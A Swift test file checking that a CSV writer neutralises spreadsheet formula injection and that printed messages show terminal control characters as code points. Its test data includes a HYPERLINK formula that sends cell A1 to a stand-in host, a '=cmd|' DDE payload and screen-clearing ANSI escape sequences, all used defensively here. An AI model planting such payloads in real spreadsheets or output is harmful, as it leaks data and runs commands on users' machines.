import Foundation
import Testing
@testable import Support

/// Cells a spreadsheet would run as formulas are written as text (issue 19, item 8).
@Suite struct CSVFormulaTests {
    static let formulas = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=1+1", "+31 6 12345678", "-2+3", "@SUM(1+1)", "\tTab", "\r=1",
        "-", "+", "--3", "+15.6 pp", "-.5", "-1e", "-3 %%", "=", "@",
        // A number behind = or @ is still a formula: only a sign makes a plain number.
        "=1", "=1,5", "@5", "=-3", "@-1e5",
    ]
    /// Plain numbers keep their sign: a spreadsheet reads them as numbers, not formulas.
    static let numbers = ["-3", "+3", "-0.5", "-1.234,5", "-1e-5", "+2E+10", "-12,5", "0", "3", "-1.000.000", "-44 %", "+4,5%"]
    /// Text that starts with an apostrophe and is no formula stays as it is.
    static let apostrophes = ["'s-Hertogenbosch", "'t Harde", "'", "''"]

    @Test func formulaCellsGetAnApostrophe() {
        for cell in Self.formulas {
            let written = CSVWriter.escape(cell)
            let unquoted = written.hasPrefix("\"") ? String(written.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : written
            #expect(unquoted == "'" + cell, "\(cell.debugDescription) → \(written.debugDescription)")
        }
        #expect(CSVWriter.escape("=1+1") == "'=1+1")
        #expect(CSVWriter.escape("=SUM(A1,B1)") == "\"'=SUM(A1,B1)\"")
        #expect(CSVWriter.escape("\tTab") == "'\tTab", "the tab is no longer at the edge, so no quotes are needed")
    }

    @Test func numbersAndApostropheTextStayAsTheyAre() {
        for cell in Self.numbers + Self.apostrophes {
            #expect(Self.unquoted(CSVWriter.escape(cell)) == cell)
        }
        #expect(CSVWriter.escape("-12,5") == "\"-12,5\"", "quoted for the comma, as any field")
        // Apostrophes before a formula character get one more, so the original can be told apart.
        #expect(CSVWriter.escape("'=1+1") == "''=1+1")
        #expect(CSVWriter.escape("''-3") == "'''-3")
    }

    @Test func theOriginalOfEveryWrittenCellIsKnown() {
        for cell in Self.formulas + Self.numbers + Self.apostrophes + ["'=1+1", "''-3", "Hoorn", ""] {
            #expect(CSVWriter.originalCell(Self.unquoted(CSVWriter.escape(cell))) == cell, "\(cell.debugDescription)")
        }
    }

    @Test func headerCellsAreGuardedToo() {
        var writer = CSVWriter(header: ["row", "=cmd|' /C calc'!A0"])
        writer.append(["2", "@x"])
        #expect(writer.text == "row,'=cmd|' /C calc'!A0\n2,'@x\n")
    }

    /// The Dutch Excel downloads (`;`, decimal comma): a Dutch negative number stays a number and
    /// needs no quotes; a formula is guarded and quoted only for a `;` in it.
    @Test func semicolonDelimitedCellsAreGuardedToo() throws {
        var writer = CSVWriter(header: ["Gemeente", "Verschil", "Opmerking"], delimiter: .semicolon)
        writer.append(["=HYPERLINK(\"http://x.example\";\"klik\")", "-12,5", "+3"])
        writer.append(["@SUM(1;2)", "-1.234,5", "-44 %"])
        writer.append(["Hoorn", "-3", "=1,5"])
        #expect(writer.text == """
            Gemeente;Verschil;Opmerking
            "'=HYPERLINK(""http://x.example"";""klik"")";-12,5;+3
            "'@SUM(1;2)";-1.234,5;-44 %
            Hoorn;-3;'=1,5

            """)
        let read = try PythonCSV.read(writer.text, delimiter: ";")
        #expect(read.map { $0.map(CSVWriter.originalCell) } == [
            ["Gemeente", "Verschil", "Opmerking"],
            ["=HYPERLINK(\"http://x.example\";\"klik\")", "-12,5", "+3"],
            ["@SUM(1;2)", "-1.234,5", "-44 %"],
            ["Hoorn", "-3", "=1,5"],
        ])
    }

    /// Written by CSVWriter, read by Python's csv module (a reader spreadsheets and scripts
    /// share): every cell comes back, guarded, and `originalCell` restores it.
    @Test func cellsRoundTripThroughPythonsCSVReader() throws {
        let rows = [["code", "name", "remark"]] + (Self.formulas + Self.numbers + Self.apostrophes).map {
            ["GM0405", $0, "a,b \"c\"\nd"]
        }
        var writer = CSVWriter(header: rows[0])
        for row in rows.dropFirst() { writer.append(row) }
        let read = try PythonCSV.read(writer.text)
        #expect(read.count == rows.count)
        for (original, back) in zip(rows, read) {
            #expect(back.map(CSVWriter.originalCell) == original)
            for (cell, written) in zip(original, back) {
                let startsLikeAFormula = written.first.map { "=+-@\t\r".contains($0) } ?? false
                #expect(!startsLikeAFormula || Self.numbers.contains(written), "\(written.debugDescription) would run as a formula")
                if Self.formulas.contains(cell) { #expect(written == "'" + cell) }
            }
        }
    }

    static func unquoted(_ field: String) -> String {
        field.hasPrefix("\"") ? String(field.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : field
    }
}

/// Python's csv module as an outside reader, run as a child process.
enum PythonCSV {
    struct Failed: Error, CustomStringConvertible {
        var description: String
    }

    static func read(_ text: String, delimiter: String = ",") throws -> [[String]] {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("python-csv-\(UUID().uuidString).csv")
        try Data(text.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", """
            import csv, json, sys
            with open(sys.argv[1], newline="", encoding="utf-8") as f:
                json.dump(list(csv.reader(f, delimiter=sys.argv[2])), sys.stdout)
            """, file.path, delimiter]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw Failed(description: "python3 csv reader exited with \(process.terminationStatus)") }
        return try JSONDecoder().decode([[String]].self, from: data)
    }
}

/// Control characters in printed messages are shown, not acted on (issue 19, item 9).
@Suite struct VisibleMessageTests {
    @Test func escapeSequencesAreShownAsCodePoints() {
        let cell = "\u{1B}[2J\u{1B}]0;pwned\u{07}Hoorn\r"
        #expect(VisibleText.message("unknown gemeente \"\(cell)\"") == #"unknown gemeente "\u{1B}[2J\u{1B}]0;pwned\u{7}Hoorn\r""#)
        #expect(VisibleText.message("\u{9B}31m") == #"\u{9B}31m"#)              // C1 CSI
        #expect(VisibleText.message("a\u{202E}b\u{2066}c") == #"a\u{202E}b\u{2066}c"#)  // bidi controls
        #expect(VisibleText.message("Ho\u{200B}orn\u{AD}") == #"Ho\u{200B}orn\u{AD}"#)  // invisible
        #expect(VisibleText.message("\u{7F}\u{0}") == #"\u{7F}\u{0}"#)
    }

    @Test func ordinaryTextIsUnchanged() {
        let text = "Ingest 2012\n  rows read\t221\n  Súdwest-Fryslân — 84 % (186/221) € 2.400 😀\n"
        #expect(VisibleText.message(text) == text)
        let visible = VisibleText.message("x\u{1B}y")
        #expect(VisibleText.message(visible) == visible, "showing twice changes nothing more")
        // A value quoted inside a message keeps to its line; a message keeps its lines.
        #expect(VisibleText.escaped("a\tb\nc\u{200B}") == #"a\tb\nc\u{200B}"#)
        #expect(VisibleText.message("a\tb\nc\u{200B}") == "a\tb\nc\\u{200B}")
    }

    /// The wider rule: every control and format character, tab and line feed too, as a code point.
    @Test func codePointsShowEveryControlAndFormatCharacter() {
        #expect(VisibleText.codePoints("Blad\t1\n\u{1B}[2J\u{600}\u{E0001}é") == #"Blad\u{9}1\u{A}\u{1B}[2J\u{600}\u{E0001}é"#)
        #expect(VisibleText.codePoints("Hoorn 's-Hertogenbosch") == "Hoorn 's-Hertogenbosch")
    }
}
